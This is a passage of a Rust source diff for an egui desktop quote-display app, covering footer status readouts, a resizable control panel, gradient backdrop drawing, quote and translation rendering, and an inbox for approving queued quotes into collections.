+                                    .small_button(nav_label("▶", accents.primary))
+                                    .on_disabled_hover_text("Unpin the quote to change it")
+                                    .clicked()
+                                    && clickable
+                                {
+                                    state.next_quote();
+                                }
+                            }
+                            let dice = nav_label("🎲", accents.secondary);
+                            let hover = if state.roulette_rolls_theme() {
+                                "Surprise me: a random quote and a random look"
+                            } else if state.roulette_theme {
+                                "Surprise me: a random quote (the profile's or \
+                                 time-of-day theme stays)"
+                            } else {
+                                "Surprise me: a random quote"
+                            };
+                            if ui
+                                .small_button(dice)
+                                .on_hover_text(hover)
+                                .on_disabled_hover_text("Unpin the quote to change it")
+                                .clicked()
+                                && clickable
+                            {
+                                state.surprise_me();
+                            }
+                        });
+
+                        ui.separator();
+                    }
+
+                    // 2. Technical Readout (decoration; the first thing to go)
+                    if tier == LayoutTier::Full {
+                        ui.label(
+                            RichText::new("◈  NEURAL  FEED  ◈")
+                                .font(FontId::proportional(8.5))
+                                .color(NEON_PLASMA.gamma_multiply(0.4)),
+                        );
+
+                        let readout = format!(
+                            "SYN:{:03}  •  FREQ:{:04}ms  •  CORE:∞",
+                            state.quotes.len(),
+                            state.rotation_interval.as_millis()
+                        );
+                        ui.label(
+                            RichText::new(readout)
+                                .font(FontId::proportional(8.5))
+                                .color(NEON_SOLAR.gamma_multiply(0.4)),
+                        );
+
+                        ui.separator();
+                    }
+
+                    // 3. Rotation Status
+                    let dot_color = if !state.rotation_enabled {
+                        Color32::from_rgb(255, 60, 80)
+                    } else if state.idle_hold.is_some() {
+                        NEON_SOLAR
+                    } else {
+                        accents.secondary
+                    };
+                    let (dot_rect, _) = ui.allocate_exact_size(Vec2::new(8.0, 8.0), Sense::hover());
+                    ui.painter()
+                        .circle_filled(dot_rect.center(), 3.0, dot_color);
+
+                    // On the clock, Δt counts down to the next boundary
+                    let countdown = state
+                        .next_rotation_due()
+                        .filter(|_| state.rotation_sync == RotationSync::WallClock)
+                        .map(|due| due.saturating_duration_since(Instant::now()));
+                    if countdown.is_some() {
+                        ui.ctx().request_repaint_after(Duration::from_secs(1));
+                    }
+                    let status = if state.rotation_mode == RotationMode::Daily {
+                        let today = chrono::Local::now().format("%B %-d");
+                        format!("TODAY'S QUOTE — {}", today)
+                    } else {
+                        format!(
+                            "Δt {}s  ·  {}",
+                            countdown.map_or(state.effective_interval().as_secs(), |left| {
+                                left.as_secs_f32().ceil() as u64
+                            }),
+                            match (state.rotation_enabled, state.idle_hold) {
+                                (_, Some(IdleHold::Pinned)) => IdleHold::Pinned.label(),
+                                (false, _) => "PAUSED",
+                                (true, Some(hold)) => hold.label(),
+                                (true, None) => "STREAMING",
+                            }
+                        )
+                    };
+                    ui.label(
+                        RichText::new(state.numeral_system.digits(&status))
+                            .color(Color32::from_rgba_unmultiplied(150, 200, 200, 180))
+                            .size(9.5),
+                    );
+
+                    ui.separator();
+
+                    // 4. Interval Info (with the reading-time stretch, if any)
+                    let interval = state.rotation_interval.as_secs();
+                    let effective = state.effective_interval().as_secs();
+                    let interval = if effective > interval {
+                        format!("{}s → {}s READ", interval, effective)
+                    } else {
+                        format!("{}s", interval)
+                    };
+                    let interval = format!(
+                        "INTERVAL: {} | AUTO: {}",
+                        interval,
+                        match (state.rotation_enabled, state.idle_hold) {
+                            (false, _) => "OFF",
+                            (true, Some(_)) => "HELD",
+                            (true, None) => "ON",
+                        }
+                    );
+                    ui.label(
+                        RichText::new(state.numeral_system.digits(&interval))
+                            .color(Color32::from_rgba_unmultiplied(255, 255, 255, 120))
+                            .size(9.0),
+                    );
+
+                    // Clipboard capture is on: make it impossible to miss
+                    if let Some(left) = state.clipboard_capture_remaining() {
+                        ui.separator();
+                        ui.label(
+                            RichText::new(format!(
+                                "📋 CAPTURING  {:02}:{:02}",
+                                left.as_secs() / 60,
+                                left.as_secs() % 60
+                            ))
+                            .color(Color32::from_rgb(255, 60, 80))
+                            .size(9.0),
+                        );
+                    }
+
+                    // 5. Daily streak
+                    if state.streak > 0 {
+                        ui.separator();
+                        let streak = format!(
+                            "🔥 {} day{} streak",
+                            state.streak,
+                            if state.streak == 1 { "" } else { "s" }
+                        );
+                        ui.label(
+                            RichText::new(state.numeral_system.digits(&streak))
+                                .color(NEON_SOLAR.gamma_multiply(0.7))
+                                .size(9.0),
+                        );
+                    }
+                });
+            });
+    }
+
+    // RIGHT SIDE PANEL — must be declared BEFORE CentralPanel
+
+    if state.panel_shown() {
+        let mut panel = egui::SidePanel::right("control_panel")
+            .default_width(state.control_panel_width)
+            .width_range(CONTROL_PANEL_WIDTH_RANGE)
+            .resizable(true);
+        if std::mem::take(&mut state.control_panel_reset) {
+            panel = panel.exact_width(CONTROL_PANEL_WIDTH);
+        }
+        let panel_rect = panel
+            .frame(
+                Frame::none()
+                    .fill(Color32::from_black_alpha(40))
+                    .inner_margin(egui::Margin {
+                        left: 10.0,
+                        right: 10.0,
+                        top: 15.0,
+                        bottom: 15.0,
+                    }),
+            )
+            .show(ctx, |ui| {
+                render_control_panel_contents(ui, state, shaper);
+            })
+            .response
+            .rect;
+        // Live width of the side panel, persisted once a drag ends
+        let panel_width = panel_rect.width();
+
+        // Double-click on the divider restores the default width
+        let divider = Rect::from_x_y_ranges(
+            (panel_rect.left() - 4.0)..=(panel_rect.left() + 4.0),
+            panel_rect.y_range(),
+        );
+        let reset = ctx.input(|i| {
+            i.pointer
+                .button_double_clicked(egui::PointerButton::Primary)
+                && i.pointer
+                    .interact_pos()
+                    .is_some_and(|p| divider.contains(p))
+        });
+        if reset {
+            state.control_panel_reset = true;
+            ctx.request_repaint();
+        }
+
+        // Persist the width once a drag has finished
+        if (panel_width - state.control_panel_width).abs() > 0.5
+            && !ctx.input(|i| i.pointer.any_down())
+        {
+            state.control_panel_width = panel_width;
+            state.save();
+        }
+    }
+
+    // MAIN CANVAS — CentralPanel takes remaining space automatically
+
+    egui::CentralPanel::default()
+        .frame(Frame::none().fill(Color32::TRANSPARENT))
+        .show(ctx, |ui| {
+            // The canvas proper: what's left beside the side panel, between
+            // the title bar and the footer. Layout below is sized from it
+            let canvas = ui.max_rect();
+            let tier = LayoutTier::for_width(canvas.width());
+            state.quote_area = Some(canvas);
+
+            // BACKDROP RENDERER
+            // We draw the gradient or solid color here across `ctx.screen_rect()`.
+            // Because SidePanel is processed first and has a transparent background,
+            // this draws perfectly *underneath* the SidePanel controls.
+            if !state.is_3d_bg_active {
+                let draw_bg =
+                    state.theme.apply_to_entire_window || state.theme.mode == ThemeMode::Gradient;
+                if draw_bg {
+                    let rect = if state.theme.apply_to_entire_window {
+                        ctx.screen_rect()
+                    } else {
+                        // Full height, but only the canvas columns
+                        Rect::from_x_y_ranges(canvas.x_range(), ctx.screen_rect().y_range())
+                    };
+
+                    // Over an acrylic/mica backdrop the theme only tints it
+                    let tint = if state.backdrop_active {
+                        BACKDROP_TINT_ALPHA
+                    } else {
+                        1.0
+                    };
+                    if state.theme.mode == ThemeMode::Solid {
+                        ui.painter_at(rect).rect_filled(
+                            rect,
+                            Rounding::ZERO,
+                            state.theme.solid_color.gamma_multiply(tint),
+                        );
+                    } else if !state.theme.gradient_colors.is_empty() {
+                        let angle_rad = (state.theme.gradient_angle as f32).to_radians();
+
+                        // Quick radial to corners approximation
+                        let dir = egui::Vec2::new(angle_rad.cos(), angle_rad.sin());
+
+                        use egui::epaint::{Mesh, Vertex};
+                        let mut mesh = Mesh::default();
+
+                        let c0 = rect.min;
+                        let c1 = egui::pos2(rect.max.x, rect.min.y);
+                        let c2 = egui::pos2(rect.min.x, rect.max.y);
+                        let c3 = rect.max;
+
+                        // Project corners onto gradient direction line
+                        let center = rect.center();
+                        let project = |p: egui::Pos2| -> f32 {
+                            let v = p - center;
+                            v.x * dir.x + v.y * dir.y
+                        };
+
+                        let p0 = project(c0);
+                        let p1 = project(c1);
+                        let p2 = project(c2);
+                        let p3 = project(c3);
+
+                        let min_p = p0.min(p1).min(p2).min(p3);
+                        let max_p = p0.max(p1).max(p2).max(p3);
+                        let range = (max_p - min_p).max(0.1);
+
+                        let calc_color = |p: f32| -> Color32 {
+                            let t = ((p - min_p) / range).clamp(0.0, 1.0);
+                            gradient_color_at(
+                                &state.theme.gradient_colors,
+                                t,
+                                state.theme.gradient_interpolation,
+                            )
+                            .gamma_multiply(tint)
+                        };
+
+                        let steps_x = 32;
+                        let steps_y = 32;
+
+                        for yi in 0..=steps_y {
+                            let ty = yi as f32 / steps_y as f32;
+                            for xi in 0..=steps_x {
+                                let tx = xi as f32 / steps_x as f32;
+                                let p =
+                                    rect.min + egui::vec2(rect.width() * tx, rect.height() * ty);
+
+                                let proj = project(p);
+
+                                mesh.vertices.push(Vertex {
+                                    pos: p,
+                                    uv: egui::pos2(0.0, 0.0), // Use the white pixel to avoid rendering font texture atlas
+                                    color: calc_color(proj),
+                                });
+                            }
+                        }
+
+                        for yi in 0..steps_y {
+                            for xi in 0..steps_x {
+                                let i0 = yi * (steps_x + 1) + xi;
+                                let i1 = i0 + 1;
+                                let i2 = (yi + 1) * (steps_x + 1) + xi;
+                                let i3 = i2 + 1;
+
+                                mesh.indices.extend_from_slice(&[i0, i1, i2, i1, i3, i2]);
+                            }
+                        }
+
+                        ui.painter_at(rect).add(egui::Shape::mesh(mesh));
+                    }
+                }
+            }
+
+            handle_quote_swipe(ui, state, canvas);
+            render_clock_overlay(ui, canvas, &state.clock);
+            render_pin_button(ui, state);
+            render_side_nav(ui, state, canvas);
+
+            // The quote column, shifted while a swiped-to quote slides in
+            let padding = tier.padding_scale(canvas);
+            let slide = state.slide_offset(canvas.width());
+            if slide != 0.0 {
+                ui.ctx().request_repaint();
+            }
+            let column = Rect::from_min_max(Pos2::new(canvas.min.x, ui.cursor().min.y), canvas.max)
+                .translate(Vec2::new(slide, 0.0));
+            let column = egui::UiBuilder::new()
+                .max_rect(column)
+                .layout(egui::Layout::top_down(egui::Align::Center));
+            ui.allocate_new_ui(column, |ui| {
+                ui.add_space(80.0 * padding);
+
+                render_countdown(ui, state);
+
+                // PREVIEW & EDITING LOGIC
+                // If inputs have content, show them (Live Preview).
+                // An empty sub input previews the default sub text it will get
+                let preview_sub = if state.sub_text_input.is_empty() {
+                    state.default_sub_text.clone()
+                } else {
+                    state.sub_text_input.clone()
+                };
+                let (main_text, sub_text, is_preview) = if !state.main_text_input.is_empty() {
+                    (state.main_text_input.clone(), preview_sub, true)
+                } else if !state.sub_text_input.is_empty() {
+                    (
+                        "Type text to preview...".to_string(),
+                        state.sub_text_input.clone(),
+                        true,
+                    )
+                } else {
+                    // Not previewing, load current quote
+                    match state.current_quote() {
+                        Some(q) => (q.main_text.clone(), q.sub_text.clone(), false),
+                        None => (String::new(), String::new(), false),
+                    }
+                };
+                // The translation previews from the add form like the rest;
+                // Alternate mode puts it on the main line every other rotation
+                let translation = if is_preview {
+                    Some(state.translation_input.trim().to_string()).filter(|t| !t.is_empty())
+                } else {
+                    state
+                        .current_quote()
+                        .and_then(Quote::translation)
+                        .map(str::to_string)
+                };
+                let (main_line, translation_line) =
+                    match (state.text_style.translation_display, translation) {
+                        (TranslationDisplay::ThirdLine, translation) => {
+                            (main_text.clone(), translation)
+                        }
+                        (TranslationDisplay::Alternate, Some(translation))
+                            if state.translation_swapped =>
+                        {
+                            (translation, None)
+                        }
+                        _ => (main_text.clone(), None),
+                    };
+
+                // Shape the preview only once typing pauses; until then it is
+                // drawn with egui's own text
+                let shaping = if is_preview {
+                    let typed = format!("{}\n{}\n{:?}", main_line, sub_text, translation_line);
+                    if typed != state.preview_text {
+                        state.preview_text = typed;
+                        state.preview_changed = Some(Instant::now());
+                    }
+                    let waited = state
+                        .preview_changed
+                        .map_or(PREVIEW_SHAPE_DELAY, |t| t.elapsed());
+                    if waited < PREVIEW_SHAPE_DELAY {
+                        ctx.request_repaint_after(PREVIEW_SHAPE_DELAY - waited);
+                    }
+                    waited >= PREVIEW_SHAPE_DELAY
+                } else {
+                    true
+                };
+                let mut lines_rect = Rect::NOTHING;
+
+                if !is_preview
+                    && main_text.is_empty()
+                    && sub_text.is_empty()
+                    && state.quotes.is_empty()
+                {
+                    ui.label(
+                        RichText::new("No quotes added yet!")
+                            .color(Color32::GRAY)
+                            .size(20.0),
+                    );
+                } else {
+                    // Right-click on either line: copy, or edit (clicks are left
+                    // to text selection)
+                    let mut menu = None;
+                    let copy_sub = expand_template(&sub_text, &state.template_context());
+
+                    // 1. MAIN TEXT (the preview uses the display style as is)
+                    let main_color = state.text_style.main_text_color;
+                    let main_size =
+                        state.text_style.main_text_size * state.title_bar_state.zoom_level;
+                    // Casing is for display; edits below keep using `main_text`
+                    let shown_main = state
+                        .text_style
+                        .main_transform
+                        .apply(&main_line)
+                        .into_owned();
+                    let letter_spacing =
+                        state.text_style.main_letter_spacing * state.title_bar_state.zoom_level;
+                    // Auto-fit scales both lines by how much the main text had to shrink
+                    let fit_scale = if state.text_style.auto_fit {
+                        auto_fit_scale(ui, state, shaper, &shown_main, main_size)
+                    } else {
+                        1.0
+                    };
+                    let main_size = main_size * fit_scale;
+
+                    // Try cosmic-text shaped rendering for Bengali, emoji and other complex text
+                    let text_shadow = state.text_style.text_shadow.clone();
+                    let used_shaped = if shaping && needs_shaping(&shown_main) {
+                        if let Some((ref mut fs, ref mut sc, ref mut tc)) = shaper {
+                            if let Some((tex_id, size)) = render_shaped_texture(
+                                ctx,
+                                fs,
+                                sc,
+                                &shown_main,
+                                main_size,
+                                main_color,
+                                false,
+                                letter_spacing,
+                                tc,
+                            ) {
+                                // The shadow is a second, shadow-colored texture (cached too)
+                                let shadow = text_shadow.as_ref().and_then(|shadow| {
+                                    render_shaped_texture(
+                                        ctx,
+                                        fs,
+                                        sc,
+                                        &shown_main,
+                                        main_size,
+                                        shadow.color,
+                                        true,
+                                        letter_spacing,
+                                        tc,
+                                    )
+                                    .map(|(id, _)| (id, shadow))
+                                });
+                                let resp = add_shaped_text_image(
+                                    ui,
+                                    tex_id,
+                                    size,
+                                    shadow,
+                                    if is_preview {
+                                        egui::Sense::hover()
+                                    } else {
+                                        egui::Sense::click()
+                                    },
+                                );
+                                lines_rect = lines_rect.union(resp.rect);
+                                if !is_preview {
+                                    menu =
+                                        menu.or(quote_context_menu(&resp, &main_line, &copy_sub));
+                                }
+                                true
+                            } else {
+                                false
+                            }
+                        } else {
+                            false
+                        }
+                    } else {
+                        false
+                    };
+
+                    if !used_shaped {
+                        let main_resp = shadowed_label(
+                            ui,
+                            RichText::new(&shown_main)
+                                .color(main_color)
+                                .size(main_size)
+                                .extra_letter_spacing(letter_spacing)
+                                .strong(),
+                            text_shadow.as_ref(),
+                            if is_preview {
+                                egui::Sense::hover()
+                            } else {
+                                egui::Sense::click()
+                            },
+                        );
+
+                        lines_rect = lines_rect.union(main_resp.rect);
+                        if !is_preview {
+                            menu = menu.or(quote_context_menu(&main_resp, &main_line, &copy_sub));
+                        }
+                    } // end if !used_shaped
+
+                    ui.add_space(state.text_style.between_gap);
+
+                    // 2. SUB TEXT
+                    if let Some(edit_index) = state.subtitle_editing.filter(|_| !is_preview) {
+                        // INLINE SUBTITLE EDITING
+                        let edit = egui::TextEdit::singleline(&mut state.subtitle_edit_buffer)
+                            .desired_width(300.0)
+                            .horizontal_align(egui::Align::Center)
+                            .font(egui::FontId::proportional(
+                                state.text_style.sub_text_size * state.title_bar_state.zoom_level,
+                            ));
+
+                        let response = ui.add(edit);
+                        response.request_focus();
+
+                        if response.lost_focus() || ui.input(|i| i.key_pressed(egui::Key::Enter)) {
+                            state.subtitle_editing = None;
+                            let sub_text = state.clean_text(&state.subtitle_edit_buffer);
+                            if let Some(quote) = state.quotes.get_mut(edit_index) {
+                                quote.sub_text = sub_text;
+                                state.save();
+                            }
+                        }
+                    } else {
+                        // DISPLAY SUBTITLE
+                        let sub_color = state.text_style.sub_text_color;
+
+                        if !sub_text.is_empty() {
+                            let sub_size = state.text_style.sub_text_size
+                                * state.title_bar_state.zoom_level
+                                * fit_scale;
+
+                            // Placeholders expand for display only; edits keep the raw text
+                            let shown_sub = expand_template(&sub_text, &state.template_context());
+                            let shown_sub = state
+                                .text_style
+                                .sub_transform
+                                .apply(&shown_sub)
+                                .into_owned();
+                            if shown_sub != sub_text {
+                                let secs = chrono::Timelike::second(&chrono::Local::now());
+                                ctx.request_repaint_after(Duration::from_secs(60 - secs as u64));
+                            }
+
+                            // Try cosmic-text shaped rendering for the subtitle (🌟 in color)
+                            let used_shaped_sub = if shaping && needs_shaping(&shown_sub) {
+                                if let Some((ref mut fs, ref mut sc, ref mut tc)) = shaper {
+                                    if let Some((tex_id, size)) = render_shaped_text(
+                                        ctx, fs, sc, &shown_sub, sub_size, sub_color, tc,
+                                    ) {
+                                        let shadow = text_shadow.as_ref().and_then(|shadow| {
+                                            render_shaped_shadow(
+                                                ctx,
+                                                fs,
+                                                sc,
+                                                &shown_sub,
+                                                sub_size,
+                                                shadow.color,
+                                                tc,
+                                            )
+                                            .map(|(id, _)| (id, shadow))
+                                        });
+                                        let sub_resp = add_shaped_text_image(
+                                            ui,
+                                            tex_id,
+                                            size,
+                                            shadow,
+                                            if is_preview {
+                                                egui::Sense::hover()
+                                            } else {
+                                                egui::Sense::click()
+                                            },
+                                        );
+                                        lines_rect = lines_rect.union(sub_resp.rect);
+                                        if !is_preview {
+                                            menu = menu.or(quote_context_menu(
+                                                &sub_resp, &main_line, &copy_sub,
+                                            ));
+                                        }
+                                        true
+                                    } else {
+                                        false
+                                    }
+                                } else {
+                                    false
+                                }
+                            } else {
+                                false
+                            };
+
+                            if !used_shaped_sub {
+                                let sub_resp = shadowed_label(
+                                    ui,
+                                    RichText::new(&shown_sub).color(sub_color).size(sub_size),
+                                    text_shadow.as_ref(),
+                                    if is_preview {
+                                        egui::Sense::hover()
+                                    } else {
+                                        egui::Sense::click()
+                                    },
+                                );
+
+                                lines_rect = lines_rect.union(sub_resp.rect);
+                                if !is_preview {
+                                    menu = menu
+                                        .or(quote_context_menu(&sub_resp, &main_line, &copy_sub));
+                                }
+                            } // end if !used_shaped_sub
+                        }
+                    }
+                    match menu {
+                        Some(QuoteMenuAction::EditQuote) => state.edit_current_quote(),
+                        Some(QuoteMenuAction::EditSubText) => state.edit_current_sub_text(),
+                        None => {}
+                    }
+
+                    // 3. TRANSLATION (smaller and muted; Bengali over Latin
+                    // is common, so it picks its render path on its own)
+                    if let Some(translation) = translation_line {
+                        ui.add_space(state.text_style.between_gap * 0.5);
+                        let size = state.text_style.sub_text_size
+                            * TRANSLATION_SIZE_FACTOR
+                            * state.title_bar_state.zoom_level
+                            * fit_scale;
+                        let color = state.text_style.sub_text_color.gamma_multiply(0.6);
+                        let mut unshaped = None;
+                        let resp = quote_text_line(
+                            ui,
+                            if shaping { &mut *shaper } else { &mut unshaped },
+                            &translation,
+                            size,
+                            color,
+                            text_shadow.as_ref(),
+                        );
+                        lines_rect = lines_rect.union(resp.rect);
+                    }
+                    if is_preview && state.preview_style == PreviewStyle::Marked {
+                        paint_preview_frame(ui, lines_rect, state.theme.accent_primary);
+                    }
+
+                    // 4. TAGS (colored badges; the add form's while previewing)
+                    let tags = if is_preview {
+                        parse_tags(&state.tag_input)
+                    } else {
+                        state
+                            .current_quote()
+                            .map(|q| q.tags.clone())
+                            .unwrap_or_default()
+                    };
+                    if state.show_quote_tags && !tags.is_empty() {
+                        ui.add_space(state.text_style.between_gap * 0.5);
+                        let size = 11.0 * state.title_bar_state.zoom_level * fit_scale;
+                        ui.label(tag_badges(state, &tags, size));
+                    }
+
+                    // 5. SOURCE LINK (only ever opened by a click)
+                    let source_url = state
+                        .current_quote()
+                        .and_then(Quote::source_url)
+                        .map(str::to_string);
+                    let note = state
+                        .current_quote()
+                        .and_then(Quote::note)
+                        .map(str::to_string);
+                    if let Some(url) = source_url.filter(|_| !is_preview) {
+                        ui.add_space(6.0);
+                        let link = ui
+                            .add(
+                                egui::Button::new(
+                                    RichText::new("🔗")
+                                        .color(state.text_style.sub_text_color.gamma_multiply(0.7))
+                                        .size(12.0 * state.title_bar_state.zoom_level),
+                                )
+                                .frame(false),
+                            )
+                            .on_hover_text(format!("Open source: {}", url));
+                        if link.clicked() {
+                            ui.ctx().open_url(egui::OpenUrl::new_tab(url));
+                        }
+                    }
+
+                    // 6. NOTE (the text itself only ever shows as a tooltip)
+                    if let Some(note) = note.filter(|_| !is_preview) {
+                        let icon = ui
+                            .add(
+                                egui::Button::new(
+                                    RichText::new("📝")
+                                        .color(state.text_style.sub_text_color.gamma_multiply(0.5))
+                                        .size(11.0 * state.title_bar_state.zoom_level),
+                                )
+                                .frame(false),
+                            )
+                            .on_hover_text(note);
+                        if icon.clicked() {
+                            state.title_bar_state.control_panel_visible = true;
+                            state.open_note(state.current_quote_index);
+                        }
+                    }
+                }
+
+                ui.add_space(40.0 * padding);
+            });
+
+            // Brief accent glow around the canvas when a quote arrived
+            if state.attention_cue == AttentionCue::BorderPulse {
+                if let Some(t) = state.attention_progress() {
+                    let strength = (t * std::f32::consts::PI).sin();
+                    ui.painter().rect_stroke(
+                        ui.max_rect().shrink(2.0),
+                        Rounding::same(4.0),
+                        Stroke::new(
+                            1.0 + 3.0 * strength,
+                            state.theme.accent_primary.gamma_multiply(strength),
+                        ),
+                    );
+                }
+            }
+        });
+}
+
+// =============================================================================
+// CONTROL PANEL RENDERER
+// =============================================================================
+
+/// Render the control panel contents (inside SidePanel)
+pub fn render_control_panel_contents(
+    ui: &mut egui::Ui,
+    state: &mut AppState,
+    shaper: &mut Option<(
+        &mut cosmic_text::FontSystem,
+        &mut cosmic_text::SwashCache,
+        &mut HashMap<u64, egui::TextureHandle>,
+    )>,
+) {
+    ui.set_max_width(ui.available_width()); // Prevent horizontal overflow
+    let accents = state.theme.accents();
+    // Label and glow colors for the current light/dark style
+    let visuals = ui.visuals().clone();
+    let fg = ui_fg(&visuals);
+    let shade = |alpha| ui_shade(&visuals, alpha);
+    // A copy, so the section closures can still borrow `state`; saves in
+    // the panel keep writing the real map
+    let mut sections = state.section_open.clone();
+    let sections_before = sections.clone();
+    egui::ScrollArea::vertical()
+        .auto_shrink([false, false])
+        .enable_scrolling(true)
+        .show(ui, |ui| {
+            ui.set_width(ui.available_width());
+
+            // ===== Inbox Section =====
+            let title = format!("INBOX  [{}]", state.pending.len());
+            render_section(ui, &mut sections, "inbox", &title, None, accents, |ui| {
+                if state.pending.is_empty() {
+                    ui.label(
+                        RichText::new(
+                            "Nothing waiting. Copied text sent \"Later\" and imports \
+                             sent for review land here.",
+                        )
+                        .color(Color32::GRAY)
+                        .size(10.0),
+                    );
+                    return;
+                }
+                if state.inbox_target >= state.collections.len() {
+                    state.inbox_target = state.active_collection;
+                }
+                ui.horizontal(|ui| {
+                    ui.label(
+                        RichText::new("Approve into")
+                            .color(Color32::GRAY)
+                            .size(10.5),
+                    );
+                    egui::ComboBox::from_id_salt("inbox_target")
+                        .selected_text(&state.collections[state.inbox_target].name)
+                        .show_ui(ui, |ui| {
+                            for (idx, collection) in state.collections.iter().enumerate() {
+                                ui.selectable_value(&mut state.inbox_target, idx, &collection.name);
+                            }
+                        });
+                });
+                ui.add_space(4.0);
+
+                // Duplicates are checked against where the quote is headed
+                let target_quotes = if state.inbox_target == state.active_collection {
+                    &state.quotes
+                } else {
+                    &state.collections[state.inbox_target].quotes
+                };
+                let mut to_approve = None;
+                let mut to_reject = None;
+                let mut to_edit = None;
+                let mut edit_done = None;
+                for (idx, quote) in state.pending.iter().enumerate() {
+                    let editing = state.inbox_edit.as_mut().filter(|(i, ..)| *i == idx);
+                    if let Some((_, main, sub)) = editing {
+                        ui.add(
+                            egui::TextEdit::multiline(main)
+                                .desired_rows(2)
+                                .desired_width(f32::INFINITY),
+                        );
+                        ui.add(
+                            egui::TextEdit::singleline(sub)
+                                .hint_text("Supporting text...")
+                                .desired_width(f32::INFINITY),
+                        );
+                        let issue =
+                            validate_quote_input(main, sub, state.quote_max_chars, target_quotes);
+                        let blocked = issue.is_some_and(InputIssue::blocks_submit);
+                        ui.horizontal(|ui| {
+                            if ui
+                                .add_enabled(
+                                    !blocked,
+                                    egui::Button::new(
+                                        RichText::new("Approve").color(NEON_LIME).size(9.5),
+                                    ),
+                                )
+                                .clicked()
+                            {
+                                edit_done = Some(true);
+                            }
+                            if ui.small_button("Cancel").clicked() {
+                                edit_done = Some(false);
+                            }
+                            match issue {
+                                Some(InputIssue::TooLong) => {
+                                    ui.label(RichText::new("Too long").color(NEON_ROSE).size(10.0));
+                                }
+                                Some(InputIssue::Duplicate) => {
+                                    ui.label(
+                                        RichText::new("⚠ Already added")
+                                            .color(NEON_SOLAR)
+                                            .size(10.0),
+                                    );
+                                }
+                                _ => {}
+                            }
+                        });
+                        continue;
+                    }
+
+                    ui.horizontal(|ui| {
+                        ui.label(
+                            RichText::new(&quote.main_text)
+                                .color(Color32::from_rgba_unmultiplied(190, 190, 215, 255))
+                                .size(10.0),
+                        );
+                        ui.with_layout(egui::Layout::right_to_left(egui::Align::Center), |ui| {
+                            if ui
+                                .small_button(RichText::new("Reject").color(NEON_ROSE).size(9.5))
+                                .on_hover_text("Move it to the recycle bin")
+                                .clicked()
+                            {
+                                to_reject = Some(idx);
+                            }
+                            if ui
+                                .small_button(RichText::new("Edit").size(9.5))
+                                .on_hover_text("Edit & approve")
+                                .clicked()
+                            {
+                                to_edit = Some(idx);
+                            }
+                            if ui
+                                .small_button(RichText::new("Approve").color(NEON_LIME).size(9.5))
+                                .clicked()
+                            {
+                                to_approve = Some(idx);
+                            }
+                        });
+                    });
+                    if !quote.sub_text.is_empty() {
+                        ui.label(
+                            RichText::new(&quote.sub_text)
+                                .color(Color32::GRAY)
+                                .size(9.5),
+                        );
+                    }
+                }
+
+                if state.pending.len() > 1 {
+                    ui.add_space(4.0);
+                    if ui.small_button("Approve all").clicked() {
+                        while !state.pending.is_empty() {
+                            state.approve_pending(0);
+                        }
+                    }
+                }
+                match edit_done {
+                    Some(true) => {
+                        if let Some((idx, main, sub)) = state.inbox_edit.take() {
+                            let (main, sub) = (state.clean_text(&main), state.clean_text(&sub));
+                            if let Some(quote) = state.pending.get_mut(idx) {
+                                quote.main_text = main.trim().to_string();
+                                quote.sub_text = sub.trim().to_string();
+                            }
+                            state.approve_pending(idx);
+                        }
+                    }
+                    Some(false) => state.inbox_edit = None,
+                    None => {}
+                }
+                if let Some(idx) = to_edit {
+                    let quote = &state.pending[idx];
+                    state.inbox_edit = Some((idx, quote.main_text.clone(), quote.sub_text.clone()));
+                }
+                if let Some(idx) = to_approve {
+                    state.approve_pending(idx);
+                }
+                if let Some(idx) = to_reject {
+                    state.reject_pending(idx);
+                }
+            });
+
+            ui.add_space(10.0);
+
+            // ===== Collection Section =====
+            let summary = Some(state.collections[state.active_collection].name.clone());
+            render_section(
+                ui,
+                &mut sections,
+                "collection",
+                "COLLECTION",
+                summary,
+                accents,
+                |ui| {
+                    let mut selected = state.active_collection;
+                    egui::ComboBox::from_id_salt("active_collection")
+                        .selected_text(&state.collections[state.active_collection].name)
+                        .width(ui.available_width() - 8.0)
+                        .show_ui(ui, |ui| {
+                            for (idx, collection) in state.collections.iter().enumerate() {
+                                let count = if idx == state.active_collection {
+                                    state.quotes.len()
+                                } else {
+                                    collection.quotes.len()
+                                };
+                                ui.selectable_value(
+                                    &mut selected,
+                                    idx,
+                                    format!("{}  ({})", collection.name, count),
+                                );
+                            }
+                        });
+                    if selected != state.active_collection {
+                        state.switch_collection(selected);
+                    }
+
+                    ui.add_space(6.0);
+                    egui::Frame::none()
+                        .fill(Color32::from_black_alpha(60))
+                        .stroke(Stroke::new(1.0, accents.primary.gamma_multiply(0.2)))
+                        .rounding(Rounding::same(4.0))
+                        .show(ui, |ui| {
+                            ui.add(
+                                egui::TextEdit::singleline(&mut state.collection_name_input)
+                                    .hint_text("Collection name...")
+                                    .desired_width(ui.available_width()),
+                            );
+                        });
+
+                    ui.add_space(4.0);
+                    let name = state.collection_name_input.trim().to_string();
+                    ui.horizontal(|ui| {
+                        if ui
+                            .add_enabled(!name.is_empty(), egui::Button::new("New"))
+                            .clicked()
+                        {
+                            state.add_collection(name.clone());
+                            state.collection_name_input.clear();
+                        }
+                        if ui
+                            .add_enabled(!name.is_empty(), egui::Button::new("Rename"))
+                            .clicked()
+                        {
+                            state.rename_collection(name.clone());
+                            state.collection_name_input.clear();
+                        }
+                        if ui
+                            .add_enabled(state.collections.len() > 1, egui::Button::new("Delete"))
+                            .clicked()
+                        {
+                            state.confirm_delete_collection = true;
+                        }
+                        if ui.button("Import…").clicked() {
+                            pick_import_file(state);
+                        }
+                    });
+
+                    if state.confirm_delete_collection {
+                        ui.add_space(4.0);
+                        ui.horizontal(|ui| {
+                            label_with_glow(
+                                ui,
+                                &format!(
+                                    "Delete \"{}\"? Its {} quotes go to the archive.",
+                                    state.collections[state.active_collection].name,
+                                    state.quotes.len()
+                                ),
+                                fg,
+                                11.0,
+                                shade(140),
+                                egui::Align2::LEFT_CENTER,
+                            );
+                        });
+                        ui.horizontal(|ui| {
+                            if ui
+                                .add(
+                                    egui::Button::new(
+                                        RichText::new("Yes, Delete")
+                                            .color(Color32::WHITE)
+                                            .size(10.5),
+                                    )
+                                    .fill(Color32::from_rgb(255, 70, 70)),
+                                )
+                                .clicked()
+                            {
+                                state.delete_collection();
+                            }
+                            if ui
+                                .button(
+                                    RichText::new("Cancel")
+                                        .color(Color32::from_rgba_unmultiplied(190, 190, 215, 255))
+                                        .size(10.5),
+                                )
+                                .clicked()
+                            {
+                                state.confirm_delete_collection = false;
+                            }
+                        });
+                    }
+                },
+            );
+
+            ui.add_space(10.0);
+
+            // ===== Add Custom Text Section =====
+            render_section(
+                ui,
+                &mut sections,
+                "add_text",
+                &match state.editing_quote {
